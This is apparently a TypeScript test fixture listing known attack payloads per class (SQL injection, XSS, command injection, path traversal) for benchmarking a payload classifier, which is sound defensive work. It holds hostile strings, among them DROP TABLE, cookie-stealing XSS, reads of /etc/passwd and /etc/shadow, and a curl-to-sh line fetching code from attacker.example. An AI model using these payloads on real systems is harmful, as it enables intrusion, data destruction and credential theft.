// Realistic confirmed exploits per class for tests and benches: the payloads are the kind
// the sandbox oracles confirm (PayloadsAllTheThings / OWASP testing-guide spellings).
import type { AttackClass, ConfirmedExploit } from './types';

export const GENERATED_AT = '2026-11-23T12:00:00.000Z';

const PAYLOADS: Record<AttackClass, string[]> = {
  sql_injection: [
    "' OR '1'='1",
    "admin' --",
    "' or 1=1--",
    "1' UNION SELECT username, password FROM users--",
    '1 UNION ALL SELECT NULL,NULL,version()',
    "1; DROP TABLE users",
    "'; exec xp_cmdshell 'dir'--",
    "1 AND SLEEP(5)",
    "\" or \"a\"=\"a",
  ],
  xss: [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(document.cookie)>',
    '"><svg onload=alert(1)>',
    'javascript:alert(1)',
    "' onmouseover='alert(1)",
    '<iframe src="javascript:alert(1)"></iframe>',
  ],
  command_injection: [
    '; cat /etc/passwd',
    '| id',
    '&& whoami',
    '127.0.0.1; ping -c 1 attacker.example',
    '$(curl http://attacker.example/x.sh | sh)',
    '`uname -a`',
    ';cat${IFS}/etc/shadow',
  ],
  path_traversal: [
    '../../../../etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '....//....//etc/passwd',
    '../../../../../../proc/self/environ',
    '..;/..;/WEB-INF/web.xml',
    'static/../../../../etc/hosts',
  ],
};

export function exploitFor(attackClass: AttackClass): ConfirmedExploit {
  return {
    attackClass,
    payloads: PAYLOADS[attackClass],
    evidenceIds: [`ev-${attackClass}-001`, `ev-${attackClass}-002`],
    modelVersion: 'payload-clf-2026.11.1',
    confidence: 0.94,
    oracleEvidence: [`oracle:${attackClass}: structure changed beyond one literal`],
  };
}
